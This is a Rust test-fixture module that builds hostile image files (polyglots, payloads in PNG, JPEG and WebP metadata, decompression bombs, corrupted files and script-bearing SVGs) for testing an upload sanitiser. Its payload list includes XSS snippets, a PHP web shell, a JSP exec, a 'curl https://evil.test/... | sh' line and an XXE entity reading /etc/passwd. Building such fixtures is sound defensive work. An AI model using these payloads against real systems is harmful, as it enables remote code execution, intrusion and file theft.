//! Pictures that are not what they seem, made by families from good ones.

use std::io::Cursor;

use image::{DynamicImage, ImageFormat, Rgb, RgbImage};

use crate::harness::{Dice, rounds};

/// What must be nowhere in what is kept.
pub const CANARY: &str = "HOSTILE-CANARY-7f3a";

/// A hostile file.
pub struct File {
    pub name: String,
    pub bytes: Vec<u8>,
}

/// A small picture with something to see, in one of the three formats.
pub fn picture(width: u32, height: u32, format: ImageFormat) -> Vec<u8> {
    let image = RgbImage::from_fn(width, height, |x, y| {
        let byte = |value: u32| u8::try_from(value % 256).unwrap();
        Rgb([byte(x * 7 + y), byte(y * 5), byte(x * y)])
    });
    encoded(&DynamicImage::ImageRgb8(image), format)
}

pub fn encoded(image: &DynamicImage, format: ImageFormat) -> Vec<u8> {
    let mut bytes = vec![];
    image.write_to(&mut Cursor::new(&mut bytes), format).unwrap();
    bytes
}

/// What is carried along: scripts, pages, archives, and the like.
pub fn payloads() -> Vec<(&'static str, Vec<u8>)> {
    let text = |text: &str| text.replace("CANARY", CANARY).into_bytes();
    vec![
        ("script", text("<script>alert('CANARY')</script>")),
        ("html", text("<!DOCTYPE html><html><body onload=alert(1)>CANARY</body></html>")),
        ("svg", text("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('CANARY')\"/>")),
        ("php", text("<?php system($_GET['CANARY']); __halt_compiler();")),
        ("javascript", text("*/=alert('CANARY');/*")),
        ("zip", text("PK\x03\x04\x14\x00\x00\x00\x00\x00CANARY PK\x05\x06")),
        ("pdf", text("%PDF-1.7\n1 0 obj<</JS(app.alert('CANARY'))>>endobj\n%%EOF")),
        ("xmp", text("<?xpacket begin='' id='CANARY'?><x:xmpmeta xmlns:x='adobe:ns:meta/'/>")),
        ("shell", text("#!/bin/sh\ncurl https://evil.test/CANARY | sh\n")),
        ("jsp", text("<%= Runtime.getRuntime().exec(\"CANARY\") %>")),
    ]
}

fn push(files: &mut Vec<File>, name: impl Into<String>, bytes: Vec<u8>) {
    files.push(File { name: name.into(), bytes });
}

/// One part of a PNG.
pub fn chunk(kind: &[u8], data: &[u8]) -> Vec<u8> {
    let mut hasher = crc32fast::Hasher::new();
    hasher.update(kind);
    hasher.update(data);
    let length = u32::try_from(data.len()).unwrap().to_be_bytes();
    [&length[..], kind, data, &hasher.finalize().to_be_bytes()].concat()
}

/// Where the parts of a PNG begin, and where it ends, with their kinds.
pub fn chunks(png: &[u8]) -> Vec<(usize, [u8; 4])> {
    let mut at = 8;
    let mut found = vec![];
    while at + 8 <= png.len() {
        let length = u32::from_be_bytes(png[at..at + 4].try_into().unwrap());
        found.push((at, png[at + 4..at + 8].try_into().unwrap()));
        at += usize::try_from(length).unwrap() + 12;
    }
    found.push((at, *b"    "));
    found
}

/// A good PNG with something between its head and its pixels.
fn with_chunks(parts: &[Vec<u8>]) -> Vec<u8> {
    let png = picture(48, 32, ImageFormat::Png);
    // Signature and `IHDR` are 33 bytes.
    [&png[..33], &parts.concat(), &png[33..]].concat()
}

/// A PNG that says it is as large as this, with the pixels of another.
fn claiming(png: &[u8], width: u32, height: u32) -> Vec<u8> {
    let mut head = png[16..29].to_vec();
    head[..4].copy_from_slice(&width.to_be_bytes());
    head[4..8].copy_from_slice(&height.to_be_bytes());
    [&png[..8], &chunk(b"IHDR", &head), &png[33..]].concat()
}

/// All of the deflated pixels of a PNG: a bomb, where they are all alike.
fn deflated(png: &[u8]) -> Vec<u8> {
    let parts = chunks(png);
    let of_pixels = parts.windows(2).filter(|pair| &pair[0].1 == b"IDAT");
    of_pixels.flat_map(|pair| png[pair[0].0 + 8..pair[1].0 - 4].to_vec()).collect()
}

/// Pictures with something in them that is no part of the picture.
pub fn carriers() -> Vec<File> {
    let mut files = vec![];
    let jpeg = picture(48, 32, ImageFormat::Jpeg);
    let webp = picture(48, 32, ImageFormat::WebP);
    let png = picture(48, 32, ImageFormat::Png);
    for (name, payload) in payloads() {
        for (format, bytes) in [("png", &png), ("jpeg", &jpeg), ("webp", &webp)] {
            push(&mut files, format!("{format} with {name} after its end"), [&bytes[..], &payload].concat());
            push(&mut files, format!("{name} before a {format}"), [&payload, &bytes[..]].concat());
        }
        let keyword = |key: &str, rest: &[u8]| [key.as_bytes(), b"\0", rest, &payload].concat();
        for (kind, data) in [
            (b"tEXt", keyword("Comment", b"")),
            (b"iTXt", keyword("XML:com.adobe.xmp", b"\0\0\0\0")),
            (b"zTXt", keyword("Comment", b"\0")),
            (b"iCCP", keyword("profile", b"\0")),
            (b"eXIf", [&b"MM\0*\0\0\0\x08"[..], &payload].concat()),
            (b"haRm", payload.clone()),
        ] {
            let kind_name = String::from_utf8_lossy(kind);
            push(&mut files, format!("png with {name} in {kind_name}"), with_chunks(&[chunk(kind, &data)]));
        }
        for (marker, head) in [
            (0xfe, &b""[..]),
            (0xe1, b"Exif\0\0MM\0*\0\0\0\x08\0\0"),
            (0xe1, b"http://ns.adobe.com/xap/1.0/\0"),
            (0xe2, b"ICC_PROFILE\0\x01\x01"),
            (0xed, b"Photoshop 3.0\x008BIM"),
        ] {
            let length = u16::try_from(2 + head.len() + payload.len()).unwrap().to_be_bytes();
            let segment = [&[0xff, marker][..], &length, head, &payload].concat();
            let file = [&jpeg[..2], &segment, &jpeg[2..]].concat();
            push(&mut files, format!("jpeg with {name} in {marker:x} {}", head.len()), file);
        }
        for kind in [b"EXIF", b"XMP ", b"ICCP", b"HARM"] {
            let file = extended_webp(0b0010_1100, &webp, &[(kind, &payload)]);
            push(&mut files, format!("webp with {name} in {}", String::from_utf8_lossy(kind)), file);
        }
    }
    files
}

fn riff(kind: &[u8], data: &[u8]) -> Vec<u8> {
    let length = u32::try_from(data.len()).unwrap().to_le_bytes();
    let padding = vec![0; data.len() % 2];
    [kind, &length, data, &padding].concat()
}

/// An extended WebP: the picture of a simple one, with other parts behind it.
fn extended_webp(flags: u8, simple: &[u8], parts: &[(&[u8; 4], &[u8])]) -> Vec<u8> {
    let head = [&[flags, 0, 0, 0][..], &47_u32.to_le_bytes()[..3], &31_u32.to_le_bytes()[..3]].concat();
    let mut body = [b"WEBP".to_vec(), riff(b"VP8X", &head), simple[12..].to_vec()].concat();
    for (kind, data) in parts {
        body.extend(riff(*kind, data));
    }
    riff(b"RIFF", &body)
}

/// Pictures that move, which ours do not.
pub fn animations() -> Vec<File> {
    let mut files = vec![];
    let webp = picture(48, 32, ImageFormat::WebP);
    for frames in [1, 3, 500] {
        let frame = [
            &[0; 6][..],
            &47_u32.to_le_bytes()[..3],
            &31_u32.to_le_bytes()[..3],
            &[100, 0, 0, 0],
            &webp[12..],
        ]
        .concat();
        let head = [&[2, 0, 0, 0][..], &47_u32.to_le_bytes()[..3], &31_u32.to_le_bytes()[..3]].concat();
        let mut body = [b"WEBP".to_vec(), riff(b"VP8X", &head), riff(b"ANIM", &[0; 6])].concat();
        (0..frames).for_each(|_| body.extend(riff(b"ANMF", &frame)));
        push(&mut files, format!("a WebP of {frames} frames"), riff(b"RIFF", &body));
    }
    let png = picture(48, 32, ImageFormat::Png);
    let pixels = deflated(&png);
    for frames in [1_u32, 50, 1_000] {
        let mut parts = vec![chunk(b"acTL", &[frames.to_be_bytes(), 0_u32.to_be_bytes()].concat())];
        for frame in 0..frames {
            let size = [48_u32.to_be_bytes(), 32_u32.to_be_bytes(), [0; 4], [0; 4]].concat();
            let control = [&(frame * 2).to_be_bytes()[..], &size, &[0, 1, 0, 30, 0, 0]].concat();
            parts.push(chunk(b"fcTL", &control));
            if frame % 100 == 1 {
                parts.push(chunk(b"fdAT", &[&(frame * 2 + 1).to_be_bytes()[..], &pixels].concat()));
            }
        }
        push(&mut files, format!("a PNG of {frames} frames"), with_chunks(&parts));
    }
    files
}

/// Pictures of which something is missing or wrong, at every boundary and here and there.
pub fn broken(flips: u64) -> Vec<File> {
    let mut files = vec![];
    let mut dice = Dice::new(7);
    let png = with_chunks(&[chunk(b"tEXt", b"Comment\0short"), chunk(b"gAMA", &45_455_u32.to_be_bytes())]);
    for (at, kind) in chunks(&png) {
        push(&mut files, format!("a PNG cut at byte {at}"), png[..at.min(png.len())].to_vec());
        if at + 8 < png.len() {
            let mut wrong = png.clone();
            let length = usize::try_from(u32::from_be_bytes(png[at..at + 4].try_into().unwrap())).unwrap();
            wrong[at + 8 + length] ^= 0xff;
            push(&mut files, format!("a wrong checksum of {}", String::from_utf8_lossy(&kind)), wrong);
            let mut long = png.clone();
            long[at..at + 4].copy_from_slice(&[0x7f, 0xff, 0xff, 0xff]);
            push(&mut files, format!("an endless {}", String::from_utf8_lossy(&kind)), long);
        }
    }
    for format in [ImageFormat::Png, ImageFormat::Jpeg, ImageFormat::WebP] {
        let whole = picture(48, 32, format);
        for part in 1..20 {
            let cut = whole.len() * part / 20;
            push(&mut files, format!("{format:?} cut at {cut}"), whole[..cut].to_vec());
        }
        for flip in 0..flips {
            let mut wrong = whole.clone();
            for _ in 0..dice.between(1, 8) {
                let at = usize::try_from(dice.below(wrong.len() as u64)).unwrap();
                wrong[at] = u8::try_from(dice.below(256)).unwrap();
            }
            push(&mut files, format!("{format:?} with wrong bytes, {flip}"), wrong);
        }
    }
    files
}

/// Pictures of odd kinds, sizes and depths, some of which are good.
pub fn odd() -> Vec<File> {
    let mut files = vec![];
    for format in [ImageFormat::Png, ImageFormat::Jpeg, ImageFormat::WebP] {
        for (width, height) in [(1, 1), (1, 4096), (4096, 1), (4097, 1), (1, 4097), (641, 640), (640, 640)] {
            push(&mut files, format!("{format:?} of {width} × {height}"), picture(width, height, format));
        }
    }
    for image in [
        DynamicImage::new_luma8(40, 40),
        DynamicImage::new_luma_a8(40, 40),
        DynamicImage::new_rgba8(40, 40),
        DynamicImage::new_luma16(40, 40),
        DynamicImage::new_luma_a16(40, 40),
        DynamicImage::new_rgb16(40, 40),
        DynamicImage::new_rgba16(40, 40),
    ] {
        push(&mut files, format!("a PNG of {:?}", image.color()), encoded(&image, ImageFormat::Png));
    }
    push(&mut files, "a CMYK JPEG", cmyk());
    files
}

/// Eight by eight pixels of four inks: one symbol a table, and not one coefficient.
fn cmyk() -> Vec<u8> {
    let table = |class: u8| [&[0xff, 0xc4, 0, 20, class, 1][..], &[0; 15], &[0]].concat();
    let parts: [&[u8]; 7] = [
        &[0xff, 0xd8],
        &[0xff, 0xee, 0, 14, b'A', b'd', b'o', b'b', b'e', 0, 100, 0, 0, 0, 0, 0],
        &[&[0xff, 0xdb, 0, 67, 0][..], &[1; 64]].concat(),
        &[0xff, 0xc0, 0, 20, 8, 0, 8, 0, 8, 4, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0, 4, 0x11, 0],
        &[table(0x00), table(0x10)].concat(),
        &[0xff, 0xda, 0, 14, 4, 1, 0, 2, 0, 3, 0, 4, 0, 0, 63, 0, 0x00],
        &[0xff, 0xd9],
    ];
    parts.concat()
}

/// What is small on the way and large where it is read.
pub fn bombs() -> Vec<File> {
    let mut files = vec![];
    let small = picture(48, 32, ImageFormat::Png);
    // A build without optimisation takes half a minute over the largest: the short form has smaller ones.
    let (side, largest) = if rounds().is_some() { (4096, 4096) } else { (512, 1024) };
    let large = encoded(&DynamicImage::new_luma8(largest, largest), ImageFormat::Png);
    let deep = encoded(&DynamicImage::new_rgba16(side, side), ImageFormat::Png);
    let bomb = deflated(&large);
    for (width, height) in
        [(30_000, 30_000), (u32::MAX, 1), (1, u32::MAX), (0, 0), (0x7fff_ffff, 0x7fff_ffff), (4096, 4096)]
    {
        push(&mut files, format!("a PNG that claims {width} × {height}"), claiming(&small, width, height));
    }
    push(&mut files, "megabytes of pixels for 48 × 32", claiming(&large, 48, 32));
    for (kind, head) in
        [(b"zTXt", &b"Comment\0\0"[..]), (b"iCCP", b"profile\0\0"), (b"iTXt", b"a\0\x01\0\0\0")]
    {
        let name = format!("megabytes in {}", String::from_utf8_lossy(kind));
        push(&mut files, name, with_chunks(&[chunk(kind, &[head, &bomb].concat())]));
        let many = vec![chunk(kind, &[head, &bomb].concat()); 8];
        push(&mut files, format!("eight times {}", String::from_utf8_lossy(kind)), with_chunks(&many));
    }
    push(&mut files, "a hundred thousand empty parts", with_chunks(&vec![chunk(b"tEXt", b"a\0"); 70_000]));
    let mut jpeg = picture(48, 32, ImageFormat::Jpeg);
    let frame = jpeg.windows(2).position(|pair| pair == [0xff, 0xc0]).unwrap();
    jpeg[frame + 5..frame + 9].copy_from_slice(&[0xff; 4]);
    push(&mut files, "a JPEG that claims 65,535 × 65,535", jpeg);
    let webp = picture(48, 32, ImageFormat::WebP);
    let mut claims = webp.clone();
    claims[21..25].copy_from_slice(&[0xff, 0xff, 0xff, 0x0f]);
    push(&mut files, "a WebP that claims 16,384 × 16,384", claims);
    push(&mut files, format!("{side} × {side} of 64 bits a pixel"), deep);
    push(&mut files, format!("{largest} × {largest}"), large);
    push(&mut files, "a file of a megabyte and a byte", [&small[..], &vec![0; 1024 * 1024]].concat());
    files
}

/// What is no PNG, JPEG or WebP at all: pictures that run scripts before all.
pub fn others() -> Vec<File> {
    let mut files = vec![];
    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('{CANARY}')</script></svg>");
    for prefix in [
        "",
        "\u{feff}",
        " \r\n\t",
        "<?xml version=\"1.0\"?>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?>",
        "<?xml-stylesheet href=\"https://evil.test/x.css\"?>",
        "<!-- \u{89}PNG -->",
        "<!DOCTYPE svg [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
        "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"https://evil.test/x.dtd\">",
        "GIF89a=1;/*",
        "\u{0}",
    ] {
        push(&mut files, format!("an SVG after {prefix:?}"), [prefix.as_bytes(), svg.as_bytes()].concat());
    }
    for (name, magic) in [
        ("PNG", &b"\x89PNG\r\n\x1a\n"[..]),
        ("JPEG", b"\xff\xd8\xff\xe0"),
        ("WebP", b"RIFF\x24\0\0\0WEBPVP8 "),
        ("GIF", b"GIF89a\x01\0\x01\0\x80\0\0"),
        ("BMP", b"BM\x46\0\0\0\0\0\0\0"),
        ("TIFF", b"II*\0\x08\0\0\0"),
        ("ICO", b"\0\0\x01\0\x01\0"),
        ("AVIF", b"\0\0\0\x20ftypavif"),
        ("HEIC", b"\0\0\0\x20ftypheic"),
        ("PSD", b"8BPS\0\x01"),
        ("EPS", b"%!PS-Adobe-3.0 EPSF-3.0\n"),
        ("PNM", b"P6 9999 9999 255\n"),
        ("QOI", b"qoif\0\0\x10\0"),
        ("Farbfeld", b"farbfeld\0\0\xff\xff"),
        ("DDS", b"DDS \x7c\0\0\0"),
        ("HDR", b"#?RADIANCE\n"),
        ("EXR", b"\x76\x2f\x31\x01"),
        ("JPEG XL", b"\xff\x0a"),
        ("ImageMagick", b"push graphic-context\nfill 'url(https://evil.test/)'\n"),
        ("gzip", b"\x1f\x8b\x08\0\0\0\0\0"),
        ("ELF", b"\x7fELF\x02\x01\x01"),
    ] {
        push(&mut files, format!("an SVG behind the mark of {name}"), [magic, svg.as_bytes()].concat());
    }
    let wide = |order: fn(u16) -> [u8; 2]| svg.encode_utf16().flat_map(order).collect::<Vec<u8>>();
    push(&mut files, "an SVG in UTF-16", [vec![0xff, 0xfe], wide(u16::to_le_bytes)].concat());
    push(&mut files, "an SVG in UTF-16, big-endian", [vec![0xfe, 0xff], wide(u16::to_be_bytes)].concat());
    for (name, payload) in payloads() {
        push(&mut files, format!("nothing but {name}"), payload);
    }
    files
}
